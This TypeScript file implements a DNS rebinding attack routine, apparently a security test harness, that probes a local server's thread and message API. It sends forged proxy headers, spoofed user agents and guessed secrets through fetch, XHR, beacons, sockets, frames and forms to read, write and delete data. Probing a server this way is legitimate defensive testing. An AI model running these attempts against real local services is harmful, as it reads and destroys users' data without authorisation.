// The attempts of a page on a rebound name (DNS rebinding): every way in which a page can send a request, with every header that may
// help it. The function runs inside the page, so it uses nothing from outside itself.

/** The target of a page: the server under the page's own, rebound name, and the same server under its loopback names. */
export interface Target {
  /** `http://localhost:PORT`, as the page's forged headers name it. */
  server: string;
  thread: string;
}

/** The outcome of an attempt as the page could observe it. Status 0: the browser showed it nothing. */
export interface Seen {
  what: string;
  status: number;
  text: string;
}

/** Makes all attempts. Returns what the page could see. */
export async function attack({ server, thread }: Target): Promise<Seen[]> {
  const received: Seen[] = [];
  // Each attempt ends with an event, also if it is refused. No attempt has a time limit, because a slow server would look like a refusal.
  const firstOf = (target: EventTarget, types: readonly string[]): Promise<string> =>
    new Promise((resolve) => {
      for (const type of types) target.addEventListener(type, () => resolve(type), { once: true });
    });
  const note = (what: string, status: number, text: string): void => void received.push({ what, status, text });
  const { host } = new URL(server);
  const port = host.slice(host.indexOf(":"));
  const paths = ["/api/threads", `/api/threads/${thread}/messages`, `/api/threads/${thread}/events?after=0&until=idle`];

  const forgedHeaders = (path: string): Record<string, string>[] => {
    const hidden = { "MF-Original-URL": `${server}${path}` };
    const likeNode = { ...hidden, "MF-Sec-Fetch-Mode": "cors", "Accept-Language": "*", "User-Agent": "node" };
    const likeCurl = {
      ...hidden,
      "Accept-Language": "",
      "User-Agent": "curl/8.5.0",
      "Accept-Encoding": "",
      Accept: "*/*",
    };
    return [
      {},
      hidden,
      { "MF-Original-URL": `http://127.0.0.1${port}${path}` },
      likeNode,
      likeCurl,
      { ...likeCurl, "MF-CF-Blob": '{"clientAcceptEncoding":""}' },
      { ...likeCurl, "MF-CF-Blob": "{}" },
      { ...likeCurl, Range: "bytes=0-" },
      { ...likeCurl, "Sec-Fetch-Site": "none", Origin: server, Host: host, Connection: "close" },
      { ...likeNode, Authorization: "Bearer guess", "MF-Proxy-Shared-Secret": "guess" },
      { ...likeNode, "MF-Original-Hostname": "localhost", "MF-Route-Override": "1", Forwarded: "host=localhost" },
    ];
  };
  const read = async (what: string, url: string, init: RequestInit): Promise<void> => {
    try {
      const response = await fetch(url, init);
      note(what, response.status, await response.text());
    } catch (error) {
      note(what, 0, String(error));
    }
  };
  const xhr = (what: string, method: string, url: string, headers: Record<string, string>): Promise<void> =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open(method, url);
      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
      request.onloadend = () => {
        note(what, request.status, `${request.responseText} ${request.responseURL}`);
        resolve();
      };
      request.send(method === "GET" ? null : '{"content":"written by XHR"}');
    });

  for (const path of paths) {
    for (const [at, headers] of forgedHeaders(path).entries()) {
      const tries: [string, RequestInit][] = [
        ["follow", {}],
        ["same-origin", { mode: "same-origin", cache: "force-cache" }],
        ["manual", { redirect: "manual" }],
        ["quiet", { referrerPolicy: "no-referrer", credentials: "omit", redirect: "error" }],
        ["HEAD", { method: "HEAD" }],
      ];
      await Promise.all([
        ...tries.map(([name, init]) => read(`fetch ${name} ${path} ${String(at)}`, path, { ...init, headers })),
        xhr(`xhr ${path} ${String(at)}`, "GET", path, headers),
      ]);
    }
  }
  // Requests that write: every method, each with attempts to hide the page's origin.
  const messages = `/api/threads/${thread}/messages`;
  const body = '{"content":"written by fetch"}';
  for (const headers of forgedHeaders(messages)) {
    const json = { ...headers, "Content-Type": "application/json" };
    const init = { headers: json, body, referrerPolicy: "no-referrer", keepalive: true } as const;
    await Promise.all([
      ...["POST", "PUT", "PATCH"].map((method) => read(`fetch ${method}`, messages, { ...init, method })),
      read("fetch DELETE", `/api/threads/${thread}`, {
        method: "DELETE",
        headers: {
          ...headers,
          ...("MF-Original-URL" in headers ? { "MF-Original-URL": `${server}/api/threads/${thread}` } : {}),
        },
      }),
      xhr("xhr POST", "POST", messages, json),
    ]);
  }
  // Requests to the server's own name, as from any foreign page.
  for (const base of [server, `http://127.0.0.1${port}`]) {
    for (const mode of ["cors", "no-cors"] as const) {
      await read(`fetch ${mode} ${base}`, `${base}/api/threads`, { mode, headers: { Accept: "*/*" } });
      await read(`fetch POST ${mode} ${base}`, `${base}${messages}`, { mode, method: "POST", body });
      await read(`fetch forged ${base}`, `${base}/api/threads`, {
        mode,
        headers: { "MF-Original-URL": `${server}/api/threads` },
      });
    }
  }
  for (const base of [location.origin, server]) {
    navigator.sendBeacon(`${base}${messages}`, body);
    navigator.sendBeacon(`${base}${messages}`, new Blob([body], { type: "application/json" }));
    // Server-sent events and sockets.
    const source = new EventSource(`${base}/api/threads/${thread}/events?after=0`);
    const protocols = [[], ["MF-Original-URL"]];
    const sockets = protocols.map(
      (list) => new WebSocket(`${base.replace("http", "ws")}/api/threads/${thread}/stream`, list),
    );
    const opened = firstOf(source, ["open", "error"]);
    for (const end of await Promise.all(sockets.map((socket) => firstOf(socket, ["open", "error"]))))
      if (end === "open") note(`WebSocket ${base}`, 101, "opened");
    if ((await opened) === "open") note(`EventSource ${base}`, 200, "opened");
    source.close();
    for (const socket of sockets) socket.close();
  }
  // A service worker could answer for the page; it needs a trustworthy address.
  if ("serviceWorker" in navigator) note("service worker", 200, "is there");

  // Elements: frames whose text a page of the same origin may read, forms, pictures, scripts, styles.
  const framed = async (name: string, begin: (frame: HTMLIFrameElement) => void): Promise<void> => {
    const frame = document.createElement("iframe");
    frame.name = name;
    document.body.append(frame);
    const loaded = firstOf(frame, ["load"]);
    begin(frame);
    await loaded;
    try {
      note(`frame ${name}`, 200, frame.contentDocument?.documentElement.outerHTML ?? "");
    } catch {
      // Another origin's document.
    }
  };
  const form = (target: string, attributes: Record<string, string>): void => {
    const element = document.createElement("form");
    for (const [name, value] of Object.entries({ ...attributes, target })) element.setAttribute(name, value);
    const field = document.createElement("input");
    [field.name, field.value] = ['{"content":"written by a form","x":"', '"}'];
    element.append(field);
    document.body.append(element);
    element.submit();
  };
  for (const base of [location.origin, server]) {
    for (const path of paths) await framed(`get${base}${path}`, (frame) => void (frame.src = `${base}${path}`));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const name = `post${base}${enctype}`;
      await framed(name, () =>
        form(name, { action: `${base}${messages}`, method: "post", enctype, referrerpolicy: "no-referrer" }),
      );
    }
    for (const [tag, attribute] of [
      ["img", "src"],
      ["script", "src"],
      ["link", "href"],
      ["object", "data"],
      ["video", "src"],
    ] as const) {
      const element = document.createElement(tag);
      if (element instanceof HTMLLinkElement) element.rel = "stylesheet";
      const ended = firstOf(element, ["load", "error"]);
      element.setAttribute(attribute, `${base}/api/threads`);
      document.body.append(element);
      if ((await ended) === "load") note(`${tag} ${base}`, 200, "loaded");
    }
  }
  return received;
}
